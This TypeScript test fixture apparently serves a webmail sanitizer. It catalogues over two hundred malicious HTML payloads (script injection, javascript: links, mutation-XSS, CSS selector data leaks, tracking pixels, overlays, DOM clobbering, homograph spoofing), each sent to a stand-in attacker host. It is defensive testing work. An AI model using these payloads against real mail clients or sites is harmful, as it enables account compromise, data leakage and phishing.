/**
 * What people with bad intentions put into HTML, in the numbers of the 83 kinds of docs/webmail-safety.md.
 * RUN stands for a script that leaves a mark, EVIL for the address of the attacker's server, CLICK for
 * what the reader is made to click. `does` is what happens in a page without any protection, measured
 * in Chromium: a payload that does nothing there proves nothing about ours, and says so.
 */

export type Effect =
  /** A script ran. */
  | 'script'
  /** The attacker's server was asked for something. */
  | 'request'
  /** The app, or the frame of the letter, went to another page. */
  | 'navigation'
  /** The app's own button can't be reached: something lies over it, or it is gone. */
  | 'overlay'
  /** A control of the app was changed. */
  | 'toggle'
  /** A name that the app's script could look for is now an element of the letter. */
  | 'clobber'
  /** Something moves without end. */
  | 'motion';

export interface Payload {
  readonly kind: number;
  readonly html: string;
  readonly does: Effect | 'nothing';
}

type Row = readonly [kind: number, does: Payload['does'], html: string];

const SCRIPTS: readonly Row[] = [
  [1, 'script', '<script>RUN</script>'],
  [1, 'request', '<script src="EVIL/s.js"></script>'],
  [1, 'script', '<ScRiPt\n>RUN</sCrIpT\t>'],
  [2, 'script', '<img src=x onerror="RUN">'],
  [2, 'script', '<p onclick="RUN">CLICK</p>'],
  [2, 'script', '<p onmouseover="RUN">CLICK</p>'],
  [2, 'script', '<img/src="x"/onerror=RUN>'],
  [2, 'script', '<audio src=x onerror="RUN"></audio>'],
  [2, 'script', '<style onload="RUN"></style>'],
  [2, 'script', '<div style="content-visibility:auto" oncontentvisibilityautostatechange="RUN">x</div>'],
  [3, 'script', '<svg onload="RUN"></svg>'],
  [3, 'script', '<svg><script>RUN</script></svg>'],
  [3, 'script', '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>'],
  [4, 'script', '<body onload="RUN">'],
  [4, 'script', '<body onpageshow="RUN">'],
  [5, 'script', '<details open ontoggle="RUN"><summary>x</summary>y</details>'],
  [5, 'script', '<input autofocus onfocus="RUN">'],
  [
    6,
    'script',
    '<style>@keyframes k { to { left: 1px } }</style><p style="animation: k 1s" onanimationstart="RUN">x</p>',
  ],
  [7, 'nothing', '<marquee onstart="RUN">x</marquee>'],
  [
    8,
    'script',
    '<script type="importmap">{"imports":{"x":"data:text/javascript,RUN"}}</script><script type="module">import "x"</script>',
  ],
  [
    8,
    'nothing',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/p"],"eagerness":"immediate"}]}</script>',
  ],
];

const ADDRESSES: readonly Row[] = [
  [9, 'script', '<a href="javascript:RUN">CLICK</a>'],
  [9, 'script', '<iframe src="javascript:RUN"></iframe>'],
  [10, 'script', '<a href="java&#9;script:RUN">CLICK</a>'],
  [10, 'script', '<a href="java\nscript:RUN">CLICK</a>'],
  [10, 'script', '<a href="&#x6A;avascript&colon;RUN">CLICK</a>'],
  [10, 'script', '<a href="&#1; javascript:RUN">CLICK</a>'],
  [11, 'nothing', '<a href="vbscript:MsgBox(1)">CLICK</a>'],
  [12, 'nothing', '<a href="data:text/html,<script>alert(1)</script>">CLICK</a>'],
  [12, 'request', '<iframe src="data:text/html,<img src=EVIL/d>"></iframe>'],
  [
    12,
    'request',
    "<object data=\"data:application/xhtml+xml,<img xmlns='http://www.w3.org/1999/xhtml' src='EVIL/x'/>\"></object>",
  ],
  [13, 'nothing', '<a href="file:///etc/passwd">CLICK</a>'],
  [13, 'nothing', '<a href="ms-msdt:/id PCWDiagnostic">CLICK</a>'],
  [13, 'nothing', '<a href="search-ms:query=x&crumb=location:\\\\attacker.test\\share">CLICK</a>'],
  [14, 'nothing', '<iframe src="blob:http://attacker.test/00000000-0000-0000-0000-000000000000"></iframe>'],
  [14, 'nothing', '<a href="filesystem:http://attacker.test/temporary/x.html">CLICK</a>'],
  [15, 'request', '<img src="//EVILHOST/slashes">'],
  [15, 'request', '<img src="\\\\EVILHOST\\backslashes">'],
  [16, 'script', '<svg width=200 height=40><a xlink:href="javascript:RUN"><text y="20">CLICK</text></a></svg>'],
  [16, 'request', '<svg><image xlink:href="EVIL/xlink" width=9 height=9></image></svg>'],
  [17, 'request', '<a href="#here" ping="EVIL/ping">CLICK</a>'],
];

const FRAMES: readonly Row[] = [
  [18, 'request', '<iframe src="EVIL/frame"></iframe>'],
  [18, 'script', '<iframe srcdoc="<script>RUN</script>"></iframe>'],
  [18, 'script', '<iframe onload="RUN"></iframe>'],
  [19, 'request', '<object data="EVIL/object"></object>'],
  [19, 'request', '<embed src="EVIL/embed">'],
  [19, 'nothing', '<applet code="x" archive="EVIL/x.jar"></applet>'],
  [20, 'nothing', '<portal src="EVIL/portal"></portal>'],
  [20, 'nothing', '<fencedframe src="EVIL/fenced"></fencedframe>'],
  [21, 'navigation', '<a target="_top" href="EVIL/top">CLICK</a>'],
  [21, 'navigation', '<a href="EVIL/same">CLICK</a>'],
  [
    21,
    'navigation',
    '<map name=m><area shape=default href="EVIL/area"></map><img usemap="#m" width=90 height=30 alt=CLICK src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">',
  ],
];

const HEADS: readonly Row[] = [
  [22, 'navigation', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'],
  [
    22,
    'nothing',
    '<meta http-equiv="refresh" content="0;url=data:text/html,x"><meta http-equiv=refresh content="1;EVIL/second">',
  ],
  [23, 'request', '<base href="EVIL/"><img src="based.png">'],
  [24, 'nothing', '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">'],
  [24, 'nothing', '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  [25, 'request', '<link rel="stylesheet" href="EVIL/sheet.css">'],
  [25, 'request', '<link rel="prefetch" href="EVIL/prefetch">'],
  [25, 'request', '<link rel="preload" as="image" href="EVIL/preload">'],
  [25, 'request', '<link rel="modulepreload" href="EVIL/module.js">'],
  [25, 'nothing', '<link rel="dns-prefetch" href="EVIL/dns"><link rel="preconnect" href="EVIL">'],
];

const FORMS: readonly Row[] = [
  [26, 'navigation', '<form action="EVIL/form"><input name=p value=1><button>CLICK</button></form>'],
  [26, 'navigation', '<form action="EVIL/post" method="post"><input type=submit value="CLICK"></form>'],
  [27, 'navigation', '<button form="settings" formaction="EVIL/stolen">CLICK</button>'],
  [27, 'navigation', '<form><input type=submit formaction="EVIL/formaction" value="CLICK"></form>'],
  [28, 'toggle', '<label for="read">CLICK</label>'],
  [
    29,
    'overlay',
    '<button popovertarget="pop">CLICK</button><div popover id="pop" style="position:fixed;inset:0;width:100vw;height:100vh">x</div>',
  ],
  [29, 'overlay', '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99">x</dialog>'],
  [
    29,
    'overlay',
    '<button commandfor="d" command="show-modal">CLICK</button><dialog id="d" style="width:100vw;height:100vh;max-width:none;max-height:none;margin:0">x</dialog>',
  ],
  [30, 'request', '<form action="EVIL/image"><input type="image" src="EVIL/button.png"></form>'],
  [
    31,
    'nothing',
    '<form action="EVIL/fill"><input name=u autocomplete=username><input name=p type=password autocomplete=current-password></form>',
  ],
];

const VECTORS: readonly Row[] = [
  [
    32,
    'script',
    '<svg width=200 height=40><a><animate attributeName="href" values="javascript:RUN"></animate><text y="20">CLICK</text></a></svg>',
  ],
  [
    32,
    'script',
    '<svg width=200 height=40><a><set attributeName="href" to="javascript:RUN"></set><text y="20">CLICK</text></a></svg>',
  ],
  [
    33,
    'request',
    '<svg width=50 height=50><rect width=50 height=50><set attributeName="mask" to="url(EVIL/set#m)"></set></rect></svg>',
  ],
  [33, 'nothing', '<svg width=50 height=50><rect width=50 height=50 filter="url(EVIL/filter#f)"></rect></svg>'],
  [
    34,
    'nothing',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='EVIL/use'/></svg>#x\"></use></svg>",
  ],
  [34, 'nothing', '<svg><use href="EVIL/use.svg#x"></use></svg>'],
  [
    35,
    'request',
    '<svg width=50 height=50><foreignObject width=50 height=50><img src="EVIL/foreign"></foreignObject></svg>',
  ],
  [35, 'script', '<svg><foreignObject><body><img src=x onerror="RUN"></body></foreignObject></svg>'],
  [
    36,
    'request',
    '<svg width=50 height=50><filter id="f"><feImage href="EVIL/fe"></feImage></filter><rect filter="url(#f)" width=50 height=50></rect></svg>',
  ],
  [36, 'request', '<svg><image href="EVIL/image" width=9 height=9></image></svg>'],
  [37, 'request', '<p style="background: url(EVIL/unclosed">x</p>'],
  [37, 'nothing', '<svg width=50 height=50><rect width=50 height=50 fill="url(EVIL/fill"></rect></svg>'],
  [38, 'nothing', '<math href="javascript:RUN"><mtext>CLICK</mtext></math>'],
  [
    38,
    'nothing',
    '<math><maction actiontype="statusline" xlink:href="javascript:RUN"><mtext>CLICK</mtext></maction></math>',
  ],
];

const MUTATIONS: readonly Row[] = [
  [39, 'nothing', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">'],
  [39, 'nothing', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>'],
  [
    39,
    'script',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style></annotation-xml><img src=x onerror="RUN"></math>',
  ],
  [39, 'script', '<svg></p><style><a id="</style><img src=1 onerror=RUN>">'],
  [40, 'script', '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>'],
  [40, 'script', '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>'],
  [40, 'script', '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>'],
  [40, 'script', '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>'],
  [40, 'script', '<title><p title="</title><img src=x onerror=RUN>"></title>'],
  [40, 'nothing', '<template><img src=x onerror="RUN"></template>'],
  [40, 'script', '<div><template shadowrootmode="open"><img src=x onerror="RUN"></template></div>'],
  [41, 'script', '<style><!-- </style><img src=x onerror="RUN">-->'],
  [41, 'nothing', '<svg><style><![CDATA[</style><img src=x onerror="RUN">]]></style></svg>'],
  [41, 'script', '<!--><img src=x onerror="RUN">-->'],
  [41, 'script', '<!-- --!><img src=x onerror="RUN"> -->'],
  [42, 'script', '<svg xmlns:xlink="http://www.w3.org/1999/xlink" xlink:title="x" ONLOAD="RUN"></svg>'],
  [42, 'nothing', '<p xmlns:ev="javascript:RUN" ev:event="load">x</p>'],
  [43, 'nothing', '<p title="&lt;img src=x onerror=RUN&gt;">x</p>'],
  [43, 'nothing', '<body title="bgcolor=&quot;x&quot; onload=RUN" background="x&quot; onerror=&quot;RUN">x'],
];

const STYLES: readonly Row[] = [
  [44, 'request', '<p style="background-image: url(EVIL/bg)">x</p>'],
  [44, 'request', '<p style="border: 5px solid; border-image: url(EVIL/border) 5">x</p>'],
  [44, 'request', '<p style="mask-image: url(EVIL/mask)">x</p>'],
  [44, 'request', '<p style="shape-outside: url(EVIL/shape); float: left; width: 9px; height: 9px">x</p>'],
  [44, 'request', '<p style="clip-path: url(EVIL/clip#c)">x</p>'],
  [44, 'request', '<style>p { background: url(EVIL/rule) }</style><p>x</p>'],
  [45, 'request', '<p style="background-image: image-set(\'EVIL/set\' 1x)">x</p>'],
  [45, 'request', '<p style="background-image: -webkit-image-set(url(EVIL/wset) 1x)">x</p>'],
  [45, 'nothing', '<p style="background-image: src(\'EVIL/src\')">x</p>'],
  [46, 'request', '<style>@import "EVIL/import.css";</style>'],
  [46, 'request', '<style>@font-face { font-family: f; src: url(EVIL/font) } p { font-family: f }</style><p>x</p>'],
  [47, 'request', '<p style="--u: url(EVIL/var); background: var(--u)">x</p>'],
  [48, 'request', '<p style="background: \\75rl(EVIL/escaped)">x</p>'],
  [48, 'request', '<p style="b\\61 ckground: u\\72l(EVIL/escaped2)">x</p>'],
  [48, 'request', '<p style="background:/*x*/url(/**/EVIL/none),url(EVIL/comment)">x</p>'],
  [49, 'request', '<style>#secret[value^="s"] { background: url(EVIL/leak) }</style>'],
  [49, 'request', '<style>:root:has(#secret[value^="s3"]) { background: url(EVIL/has) }</style>'],
  [
    50,
    'request',
    '<style>@font-face { font-family: f; src: url(EVIL/range); unicode-range: U+58 } p { font-family: f }</style><p>X</p>',
  ],
  [51, 'request', '<ul style="list-style: url(EVIL/list)"><li>x</ul>'],
  [51, 'request', '<p style="cursor: url(EVIL/cursor), auto">CLICK</p>'],
  [51, 'request', '<style>p::before { content: url(EVIL/content) }</style><p>x</p>'],
];

/** A style sheet of the letter's own: each way to load, to leave the letter's box, and to break out of what is kept. */
const SHEETS: readonly Row[] = [
  [44, 'request', '<style>p { background: red url(EVIL/important) !important }</style><p>x</p>'],
  [44, 'request', '<style>@media screen { p { background: url(EVIL/media) } }</style><p>x</p>'],
  [44, 'request', '<style media="all">@supports (color: red) { p { background: url(EVIL/supports) } }</style><p>x</p>'],
  [44, 'request', '<style>@layer a { p { background: url(EVIL/layer) } }</style><p>x</p>'],
  [44, 'request', '<style>@scope (div) { p { background: url(EVIL/scope) } }</style><div><p>x</p></div>'],
  [44, 'request', '<style>div { & p { background: url(EVIL/nested) } }</style><div><p>x</p></div>'],
  [44, 'request', '<style>div { color: red; @media all { background: url(EVIL/nestedmedia) } }</style><div>x</div>'],
  [
    44,
    'request',
    '<style>div { container-type: inline-size } @container (width > 1px) { p { background: url(EVIL/container) } }</style><div><p>x</p></div>',
  ],
  [
    44,
    'request',
    '<style>@starting-style { p { background: url(EVIL/starting) } } p { transition: background 1s; background: url(EVIL/started) }</style><p>x</p>',
  ],
  [44, 'request', '<style>p { mask: url(EVIL/mask); -webkit-mask-image: url(EVIL/wmask) }</style><p>x</p>'],
  [44, 'nothing', '<style>p { filter: url(EVIL/filter#f) }</style><p>x</p>'],
  [44, 'request', '<style>p { background: -webkit-cross-fade(url(EVIL/fade1), url(EVIL/fade2), 50%) }</style><p>x</p>'],
  [44, 'request', '<style>p::first-line { background: url(EVIL/line) }</style><p>x</p>'],
  [44, 'request', '<style>li::marker { content: url(EVIL/marker) }</style><ul><li>x</ul>'],
  [
    44,
    'request',
    '<style>@counter-style c { system: cyclic; symbols: "x" } ul { list-style: c url(EVIL/counter) }</style><ul><li>x</ul>',
  ],
  [44, 'nothing', '<style>p { background: image("EVIL/image") } p { background: paint(x) }</style><p>x</p>'],
  [46, 'request', '<style>@import url(EVIL/layered.css) layer(x) screen;</style>'],
  [46, 'request', '<style>@charset "utf-8"; @import "EVIL/second.css"; p { color: red }</style><p>x</p>'],
  [46, 'nothing', '<style>@namespace url(EVIL/namespace);</style><p>x</p>'],
  [47, 'request', '<style>:root { --u: url(EVIL/rootvar) } p { background: var(--u) }</style><p>x</p>'],
  [
    47,
    'request',
    '<style>@property --v { syntax: "<image>"; inherits: true; initial-value: url(EVIL/property) } p { background: var(--v) }</style><p>x</p>',
  ],
  [48, 'request', '<style>p { b\\61 ckground: \\75\\72\\6c(EVIL/sheetescape) }</style><p>x</p>'],
  [48, 'request', '<style>p { background:/**/url(/*x*/EVIL/no),/**/url(EVIL/sheetcomment) }</style><p>x</p>'],
  [48, 'request', '<style>p { background: url(EVIL/unclosed</style><p>x</p>'],
  [48, 'request', '<style>p { font-family: "x\n} * { background: url(EVIL/badstring) }</style><p>x</p>'],
  [
    48,
    'request',
    '<style>p { font-family: "} * {" } </style><style>} p { background: url(EVIL/next) }</style><style>p { background: url(EVIL/third) }</style><p>x</p>',
  ],
  [48, 'request', '<style>.a\\{\\}\\*\\{x, p { background: url(EVIL/escapedbrace) }</style><p>x</p>'],
  [
    48,
    'request',
    '<style>[class="} p {background: url(EVIL/attr) }"] { color: red } p { background: url(EVIL/attr2) }</style><p class="} p {background: url(EVIL/attr3) }">x</p>',
  ],
  [
    49,
    'request',
    '<style>a[href*="secret"] { background: url(EVIL/href) }</style><a href="https://a.example/secret">x</a>',
  ],
  [49, 'request', '<style>p:has(b) { background: url(EVIL/hasb) }</style><p><b>x</b></p>'],
  [
    49,
    'request',
    '<style>@media (min-width: 10px) and (prefers-color-scheme: light) { body { background: url(EVIL/scheme) } }</style>',
  ],
  [49, 'request', '<style>p:hover { background: url(EVIL/hover) }</style><p>CLICK</p>'],
  [52, 'overlay', '<style>* { position: fixed !important; inset: 0; z-index: 9999 }</style><p>x</p>'],
  [
    52,
    'overlay',
    '<style>.x { position: sticky; top: 0; margin-top: -2000px; height: 9999px; z-index: 9999 }</style><div class=x>x</div>',
  ],
  [
    52,
    'overlay',
    '<style>@media all { .x { position: absolute; top: 0; left: 0; width: 9999px; height: 9999px; z-index: 9999 } }</style><div class=x>x</div>',
  ],
  [53, 'overlay', '<style>html, body { margin-top: -900px !important }</style><p>x</p>'],
  [54, 'overlay', '<style>html { display: none }</style>'],
  [54, 'overlay', '<style>:root, :host, body:not(.x) { visibility: hidden !important }</style>'],
  [54, 'overlay', '<style>header, :is(#toolbar), #archive:not(.x) { display: none !important }</style>'],
  [54, 'overlay', '<style>p, header { display: none } </style><p>x</p>'],
  [54, 'overlay', '<style>body * { display: none !important }</style>'],
  [
    56,
    'motion',
    '<style>@keyframes s { to { letter-spacing: 9px } } .x { animation: s 1s infinite alternate !important }</style><p class=x>x</p>',
  ],
  [
    57,
    'nothing',
    '<style>a:visited { color: red !important } a:link { color: blue }</style><a href="http://127.0.0.1/">x</a>',
  ],
  [
    83,
    'nothing',
    `<style>${'.a '.repeat(300)}{ color: red } ${'p:nth-child(2n+1) ~ p, '.repeat(3_000)} p { color: red }</style><p>x</p>`,
  ],
];

const DECEPTIONS: readonly Row[] = [
  [52, 'overlay', '<div style="position: fixed; inset: 0; z-index: 9999; background: red">x</div>'],
  [
    52,
    'overlay',
    '<div style="position: absolute; top: 0; left: 0; width: 9999px; height: 9999px; z-index: 9999">x</div>',
  ],
  [52, 'overlay', '<div style="POSITION:/**/fixed!important; inset: 0; z-index: 9999">x</div>'],
  [52, 'overlay', '<style>#x { position: fixed; inset: 0; z-index: 9999 }</style><div id=x>x</div>'],
  [53, 'overlay', '<div style="margin-top: -900px; height: 2000px; position: relative; z-index: 9999">x</div>'],
  [
    53,
    'overlay',
    '<div style="transform: translateY(-500px) scale(50); position: relative; z-index: 9999; background: red">x</div>',
  ],
  [54, 'overlay', '<style>#toolbar { display: none }</style>'],
  [54, 'overlay', '<style>* { visibility: hidden !important }</style>'],
  [54, 'overlay', '<style>#archive { pointer-events: none } #toolbar { opacity: 0 }</style>'],
  [55, 'nothing', '<p style="opacity: 0">unseen</p><p style="font-size: 1px">small</p>'],
  [
    56,
    'motion',
    '<style>@keyframes s { to { transform: rotate(1turn) } }</style><p style="animation: s 1s infinite">x</p>',
  ],
  [
    56,
    'nothing',
    '<div style="filter: blur(99px)"><div style="filter: blur(99px)"><div style="backdrop-filter: blur(99px)">x</div></div></div>',
  ],
  [57, 'nothing', '<style>a:visited { background: url(EVIL/visited) }</style><a href="http://127.0.0.1/">x</a>'],
];

const TRACKERS: readonly Row[] = [
  [58, 'request', '<img src="EVIL/1.gif" width=1 height=1>'],
  [58, 'request', '<img src="EVIL/hidden.gif" style="display:none">'],
  [59, 'request', '<img srcset="EVIL/set.png 1x">'],
  [59, 'request', '<picture><source srcset="EVIL/source.png"><img></picture>'],
  [59, 'request', '<video poster="EVIL/poster.png"></video>'],
  [59, 'request', '<img lowsrc="EVIL/low" src="EVIL/lazy" loading=eager>'],
  [60, 'request', '<audio src="EVIL/a.mp3" preload="auto"></audio>'],
  [60, 'request', '<video src="EVIL/v.mp4" preload="auto"></video>'],
  [60, 'request', '<video><source src="EVIL/s.mp4"><track default kind=captions src="EVIL/t.vtt"></video>'],
  [61, 'request', '<table background="EVIL/table"><tr><td>x</table>'],
  [61, 'request', '<table><tr><td background="EVIL/cell">x</table>'],
  [61, 'request', '<body background="EVIL/body">'],
  [62, 'nothing', '<bgsound src="EVIL/sound.mid">'],
  [63, 'navigation', '<a href="EVIL/r/8f3a9c0b1d2e4f5a6b7c8d9e">CLICK</a>'],
  [64, 'nothing', '<img src="x-photo:EVIL/vcard"><a href="x-receipt:EVIL/read">x</a>'],
];

const PARTS_AND_TEXT: readonly Row[] = [
  [65, 'nothing', '<img src="cid:page"><iframe src="cid:page"></iframe><object data="cid:svg"></object>'],
  [
    66,
    'nothing',
    '<img src="data:image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  ],
  [67, 'nothing', '<a href="EVIL/invoice%E2%80%AEfdp.exe" download="invoice&#8238;fdp.exe">x</a>'],
  [
    68,
    'nothing',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='EVIL/svg'/></svg>\">",
  ],
  [68, 'request', '<embed type="image/svg+xml" src="EVIL/preview.svg">'],
  [71, 'nothing', '<p>invoice&#8238;fdp.exe</p><bdo dir=rtl>moc.live</bdo>'],
  [72, 'navigation', '<a href="EVIL/homograph">p&#1072;ypal.example CLICK</a>'],
  [74, 'navigation', '<a href="EVIL/login">https://bank.example/CLICK</a>'],
  [75, 'nothing', `<p>pay&#8203;pal ${'&#769;'.repeat(200)}</p>`],
  [
    78,
    'nothing',
    '<blockquote>On Monday the boss wrote: pay</blockquote></div></div></td></table></body></html>behind',
  ],
  [78, 'request', '<img src="EVIL/efail?'],
];

const DOM: readonly Row[] = [
  [79, 'clobber', '<a id="appConfig" href="EVIL/config">x</a>'],
  [79, 'clobber', '<form id="appConfig"><input name="url" value="EVIL/x"></form>'],
  [79, 'clobber', '<img name="getElementById">'],
  [79, 'clobber', '<form name="body"></form><img name="cookie">'],
  [79, 'clobber', '<iframe name="appConfig"></iframe>'],
  [80, 'nothing', '<p is="x-app" slot="main" part="toolbar" exportparts="a">x</p><x-app>y</x-app>'],
  [81, 'nothing', '<p accesskey="a" tabindex="1" contenteditable>x</p>'],
  [82, 'nothing', '<div role="alert" aria-live="assertive" aria-label="Your session has ended" lang="zz">x</div>'],
  [83, 'nothing', `${'<div>'.repeat(5_000)}deep`],
  [83, 'nothing', `${'<i></i>'.repeat(60_000)}`],
  [
    83,
    'nothing',
    '<table><td colspan=1000 rowspan=65534 width=99999999 style="width:99999999px;height:99999999px">x</table>',
  ],
];

const GROUPS = [SCRIPTS, ADDRESSES, FRAMES, HEADS, FORMS, VECTORS, MUTATIONS, STYLES, SHEETS, DECEPTIONS, TRACKERS];

export const PAYLOADS: readonly Payload[] = [...GROUPS, PARTS_AND_TEXT, DOM]
  .flat()
  .map(([kind, does, html]) => ({ kind, does, html }));

/** Kinds that are no HTML: names, headers and files. names.test.ts and the tests of the server show what becomes of them. */
export const NOT_HTML: readonly number[] = [69, 70, 73, 76, 77];

/** The payload as it is sent: `mark` tells which one the attacker's server was asked by. */
export function armed(payload: Payload, mark: string, evilHost: string): string {
  return payload.html
    .replaceAll('EVILHOST', `${evilHost}/${mark}`)
    .replaceAll('EVIL', `http://${evilHost}/${mark}`)
    .replaceAll('RUN', 'top.ran=1');
}
